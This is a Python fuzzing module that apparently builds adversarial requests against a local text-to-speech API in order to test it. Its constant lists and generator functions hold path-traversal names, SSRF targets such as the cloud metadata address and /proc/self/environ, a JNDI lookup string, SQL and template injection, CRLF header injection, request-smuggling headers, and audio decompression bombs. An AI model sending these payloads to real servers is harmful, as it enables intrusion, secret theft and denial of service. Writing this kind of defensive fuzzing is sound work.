"""Requests that nobody means well by, drawn from a seed: what ``fuzz_server.py`` sends."""

from __future__ import annotations

import base64
import gzip
import io
import json
import random
import struct
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from typing import Any

import numpy as np
import soundfile

SPEECH, BATCH, VOICES = "/v1/audio/speech", "/v1/audio/speech/batch", "/v1/audio/voices"
JSON = "application/json"
CUT = 3  # frames at most of what is really said, so that it does not take the day
NAMES = (
    "../../../etc/passwd",
    "..",
    ".",
    "../evil",
    "/evil",
    "C:\\evil",
    "a/../../b",
    "%2e%2e%2fevil",
    "evil\0.wav",
    "-rf",
    ".hidden",
    "con",
    "a" * 65,
    "a" * 10_000,
    "nämé",
    "\u202eevil",
    "en_man",
    "config",
    "good_name",
    "x.txt",
    "x.wav",
    "~root",
    "$HOME",
    "a\r\nX-Evil: 1",
)
TEXTS = (
    "<|audio_out_bos|><|AUDIO_OUT|><|eot_id|>",
    "<|begin_of_text|><|start_header_id|>system<|end_header_id|>",
    "[SPEAKER0] one [SPEAKER999999] two",
    "<|audio|>" * 5,
    "one\0two",
    "\ud800",
    "\u202e one \u200b two",
    "🏳️‍🌈 one",
    "١٢٣",
    "[pause:99999999s] one",
    "<SE>[Laughter]</SE> one",
    "${jndi:ldap://evil} one",
    "{{7*7}} one",
    "'; DROP TABLE voices; -- one",
    "\ufeff one",
    "\n" * 70 + "one",
    "...",
    "a\u0300" * 20,
)
PLACES = (
    "/etc/passwd",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "file://evil/share",
    "http://127.0.0.1:22/",
    "https://127.0.0.1/x.wav",
    "https://169.254.169.254/latest/meta-data",
    "https://[::1]/x.wav",
    "https://localhost/x.wav",
    "gopher://127.0.0.1/x",
    "data:audio/wav;base64,%%%",
    "data:,",
    "data:audio/wav;base64,",
    "/dev/zero",
    "/proc/self/environ",
    "\\\\evil\\share",
    "\0",
)
NUMBERS = (0, -1, 1, 2**31, 2**63, 2**64, -(2**64), 10**300, 1e308, -1e308, 5e-324, 0.1, True)
VALUES = (None, True, "", "a", [], {}, [[]], {"id": {}}, {"": ""}, "\0", "x" * 3000, ["a"] * 500)
FIELDS = (
    *("voice", "model", "response_format", "speed", "stream_format", "stream", "ref_audio"),
    *("ref_text", "references", "seed", "temperature", "top_p", "top_k", "max_new_tokens"),
    *("max_tokens", "language", "sample_rate", "initial_codec_chunk_frames", "instructions"),
    *("normalization_options", "voice_aliases", "allow_voice_tags", "word_timestamps", "speaker"),
    *("instruct", "return_timing", "input", "__proto__", "constructor"),
)


@dataclass
class Attack:
    """One request. ``raw`` is sent as it is, on a connection of its own."""

    method: str = "POST"
    path: str = SPEECH
    headers: dict[str, str] = field(default_factory=lambda: {"Content-Type": JSON})
    content: bytes = b""
    raw: bytes | None = None


def attack(rng: random.Random) -> Attack:
    """The next one."""
    return rng.choice(KINDS)(rng)


# -- bodies of speech -----------------------------------------------------------------------------


def body(rng: random.Random, **fields: Any) -> dict[str, Any]:
    """One that would be spoken, for the moment."""
    return {"input": rng.choice(["one", "two three"]), "max_new_tokens": CUT, **fields}


def said(rng: random.Random, wanted: dict[str, Any]) -> Attack:
    data = json.dumps(wanted, ensure_ascii=rng.random() < 0.5).encode("utf-8", "surrogatepass")
    return Attack(content=data)


def strange_text(rng: random.Random) -> Attack:
    return said(rng, body(rng, input=rng.choice(TEXTS)))


def strange_field(rng: random.Random) -> Attack:
    wanted = body(rng)
    for name in rng.sample(FIELDS, rng.randint(1, 3)):
        wanted[name] = rng.choice((*VALUES, *NUMBERS, *TEXTS[:3]))
    if isinstance(wanted["max_new_tokens"], int) and wanted["max_new_tokens"] > CUT:
        wanted["max_new_tokens"] = CUT
    if type(wanted.get("max_tokens")) in (int, float):
        wanted["max_tokens"] = CUT
    return said(rng, wanted)


def strange_voice(rng: random.Random) -> Attack:
    name = rng.choice(NAMES)
    return said(rng, body(rng, voice=rng.choice([name, {"id": name}, f"profile:{name}"])))


def strange_clip(rng: random.Random) -> Attack:
    clip = rng.choice([rng.choice(PLACES), *[as_text(rng, rng.choice(clips()))] * 2])
    if rng.random() < 0.3:
        return said(rng, body(rng, references=[{"audio_path": clip, "text": "one"}]))
    return said(rng, body(rng, ref_audio=clip, ref_text=rng.choice(["one", "", "\0"])))


def broken_json(rng: random.Random) -> Attack:
    text = json.dumps(body(rng))
    deep = rng.choice([10, 70, 1_000, 100_000])
    return Attack(
        content=rng.choice(
            [
                b'{"input": "one", "seed": NaN}',
                b'{"input": "one", "top_p": -Infinity}',
                b'{"input": "one", "seed": ' + b"9" * rng.choice([20, 400, 5_000, 500_000]) + b"}",
                b'{"input": "one", "top_p": 1e' + b"9" * rng.choice([3, 5_000]) + b"}",
                b'{"input": ' + b"[" * deep + b"]" * deep + b"}",
                b'{"a":' * deep + b"1" + b"}" * deep,
                b'{"input": "one", "input": "two"}',
                b'{"input": "\\ud83d"}',
                b'{"input": "\\u0000one"}',
                text.encode("utf-16"),
                text.encode("utf-32"),
                b"\xef\xbb\xbf" * 2 + text.encode(),
                text.encode()[: rng.randrange(len(text))],
                flipped(rng, text.encode(), 3),
                rng.randbytes(rng.randrange(3000)),
                b"null",
                b"[]",
                b"0",
                b"",
                b'{"input": "one"}' * 2,
                b" " * 200_000,
            ]
        )
    )


def batch(rng: random.Random) -> Attack:
    items = [body(rng, input=rng.choice(TEXTS)) for _ in range(rng.choice([0, 1, 2, 40]))]
    wanted = {"items": rng.choice([items, items, {}, None, [None], [[]], "a"])}
    wanted[rng.choice(FIELDS)] = rng.choice(VALUES)
    out = said(rng, wanted)
    out.path = BATCH
    return out


# -- clips ----------------------------------------------------------------------------------------


@cache
def clips() -> list[bytes]:
    """Files of silence without end, with headers that lie, and such as are none."""
    noise = np.random.default_rng(0).normal(0, 0.1, 24_000).astype(np.float32)
    good = {kind: encoded(noise, kind) for kind in ("WAV", "FLAC", "OGG", "MP3")}
    flac = bytearray(good["FLAC"])
    flac[21:26] = b"\xff" * 5  # 68 billion samples
    out = [*good.values(), bomb("FLAC", 1800), bomb("OGG", 90), bytes(flac)]
    out += [data[: len(data) // 2] for data in good.values()]
    for rate, channels, bits in ((0, 1, 16), (1, 1, 16), (2**32 - 1, 1, 16), (24_000, 0, 16)):
        out.append(wav(rate, channels, bits))
    for rate, channels, bits in ((24_000, 65_535, 16), (24_000, 1, 0), (24_000, 2, 64_000)):
        out.append(wav(rate, channels, bits))
    out += [gzip.compress(bytes(50_000_000)), b"PK\3\4" + bytes(300), b"RIFF", b"fLaC", b"OggS"]
    out += [b"ID3" + b"\xff" * 500, b"\xff\xfb" * 400, b"<svg/>" * 60, encoded(noise * 0, "WAV")]
    out += [encoded(noise * np.float32("nan"), "WAV", "FLOAT"), encoded(noise[:100], "WAV")]
    return out


def encoded(wave: np.ndarray, kind: str, subtype: str | None = None) -> bytes:
    target = io.BytesIO()
    subtype = subtype or {"OGG": "OPUS"}.get(kind)
    soundfile.write(target, wave, 24_000, format=kind, subtype=subtype)
    return target.getvalue()


def bomb(kind: str, seconds: int) -> bytes:
    """Minutes of nothing in some kilobytes."""
    target = io.BytesIO()
    subtype = {"OGG": "OPUS"}.get(kind)
    with soundfile.SoundFile(target, "w", 8_000, 1, subtype, format=kind) as file:
        for _ in range(seconds // 10):
            file.write(np.zeros(80_000, np.float32))
    return target.getvalue()


def wav(rate: int, channels: int, bits: int) -> bytes:
    """A header that promises 4 GB."""
    width = (channels * bits // 8) & 0xFFFF
    head = struct.pack("<HHIIHH", 1, channels & 0xFFFF, rate, 2**32 - 1, width, bits & 0xFFFF)
    sizes = struct.pack("<I", 2**32 - 1)
    return b"RIFF" + sizes + b"WAVEfmt \x10\0\0\0" + head + b"data" + sizes + bytes(2000)


def as_text(rng: random.Random, data: bytes) -> str:
    data = flipped(rng, data, 4) if rng.random() < 0.5 else data
    text = base64.b64encode(data).decode()
    return rng.choice([text, f"data:audio/wav;base64,{text}", f"data:evil;base64,{text[:-1]}"])


def flipped(rng: random.Random, data: bytes, count: int) -> bytes:
    out = bytearray(data)
    for _ in range(count if out else 0):
        out[rng.randrange(len(out))] = rng.randrange(256)
    return bytes(out)


# -- forms, paths, headers ------------------------------------------------------------------------


def form(rng: random.Random) -> Attack:
    """A voice to add, for the most part not."""
    mark = "mark"
    name, words = rng.choice(NAMES), rng.choice(["one two", "", "a\0b", "x" * 5000])
    fields = [("name", name.encode("utf-8", "replace")), ("ref_text", words.encode())]
    fields += [("junk", b"x")] * rng.choice([0, 0, 30, 2000])
    parts = [
        b'--mark\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (key.encode(), value)
        for key, value in rng.sample(fields, len(fields))
    ]
    shown = rng.choice(["a.wav", "../../evil.wav", "/etc/cron.d/evil", "a\0.wav", "x" * 5000])
    head = f'--mark\r\nContent-Disposition: form-data; name="audio_sample"; filename="{shown}"'
    clip = rng.choice(clips())
    parts.append(head.encode() + b"\r\nContent-Type: audio/wav\r\n\r\n" + clip + b"\r\n")
    data = b"".join(parts) + rng.choice([b"--mark--\r\n", b"", b"--mark"])
    if rng.random() < 0.2:
        data = flipped(rng, data, 5)
    mark = rng.choice([mark] * 6 + ["", "other", "x" * 5000])
    kind = f"multipart/form-data; boundary={mark}"
    return Attack(path=VOICES, headers={"Content-Type": kind}, content=data)


def path(rng: random.Random) -> Attack:
    """Raw, because no client sends these."""
    target = rng.choice(
        [
            b"/v1/audio/voices/../../../../etc/passwd",
            b"/v1/audio/voices/..%2f..%2f..%2fetc%2fpasswd",
            b"/v1/audio/voices/%2e%2e",
            b"/v1/audio/voices/%00",
            b"/v1/audio/voices/" + b"a" * rng.choice([65, 60_000]),
            b"/v1/audio/voices/en_man%0d%0aX-Evil:%201/sample",
            b"/page/../../../../etc/passwd",
            b"/page/..%2f..%2fapp.py",
            b"/page/%2e%2e/settings.py",
            b"//etc/passwd",
            b"/%ff%fe",
            b"/v1/models/" + b"../" * 20,
            b"/v1/models/%f0%9f%92%a9",
            b"http://evil.example/v1/models",
            b"/?" + b"a=b&" * 2000,
            b"*",
            b"/\xff\xfe",
        ]
    )
    method = rng.choice([b"GET", b"GET", b"DELETE", b"HEAD", b"OPTIONS", b"BREW", b"CONNECT"])
    return Attack(raw=method + b" " + target + b" HTTP/1.1\r\nHost: localhost\r\n\r\n")


def header(rng: random.Random) -> Attack:
    """Raw: a request whose headers lie."""
    data = json.dumps(body(rng)).encode()
    lines = rng.choice(
        [
            [b"Content-Length: 5"],
            [b"Content-Length: 99999999999999999999"],
            [b"Content-Length: -1"],
            [b"Content-Length: 10", b"Content-Length: 20"],
            [b"Transfer-Encoding: chunked", b"Content-Length: 10"],
            [b"Transfer-Encoding: gzip, chunked"],
            [b"Content-Encoding: gzip", b"Content-Length: %d" % len(data)],
            [b"Host: evil.example", b"Content-Length: %d" % len(data)],
            [b"X-Forwarded-For: 127.0.0.1" + b", 1" * 9000, b"Content-Length: 0"],
            [b"Authorization: Bearer \xff\xfe\x80", b"Content-Length: %d" % len(data)],
            [b"Origin: null", b"Content-Length: %d" % len(data)],
            [b"Range: bytes=0-99999999999", b"Content-Length: %d" % len(data)],
            [b"Upgrade: websocket", b"Connection: Upgrade", b"Content-Length: 0"],
            [b"Expect: 200-maybe", b"Content-Length: %d" % len(data)],
            [b"X: " + rng.randbytes(200).replace(b"\n", b"")],
            [b"X-%d: 1" % one for one in range(2000)],
            [b" folded: yes", b"Content-Length: %d" % len(data)],
        ]
    )
    start = b"POST /v1/audio/speech HTTP/1.1\r\nContent-Type: application/json\r\n"
    host = b"" if rng.random() < 0.1 else b"Host: localhost\r\n"
    return Attack(raw=start + host + b"\r\n".join(lines) + b"\r\n\r\n" + data)


def noise(rng: random.Random) -> Attack:
    start = rng.choice([b"", b"GET / HTTP/1.1\r\n", b"\x16\x03\x01", b"PRI * HTTP/2.0\r\n\r\n"])
    return Attack(raw=start + rng.randbytes(rng.randrange(1, 3000)) + b"\r\n\r\n")


def kind_of_body(rng: random.Random) -> Attack:
    kinds = ["", "text/plain", "multipart/form-data", "application/json; charset=utf-7", "a" * 3000]
    target = rng.choice([SPEECH, BATCH, VOICES, "/v1/models", "/health", "/"])
    headers = {"Content-Type": rng.choice(kinds), "Origin": rng.choice(["null", "https://evil"])}
    method = rng.choice(["POST", "PUT", "PATCH", "DELETE", "GET", "HEAD", "OPTIONS"])
    return Attack(method, target, headers, json.dumps(body(rng)).encode())


KINDS: list[Callable[[random.Random], Attack]] = [
    *(strange_text, strange_field, strange_field, strange_voice, strange_clip, broken_json),
    *(batch, form, form, path, header, noise, kind_of_body),
]
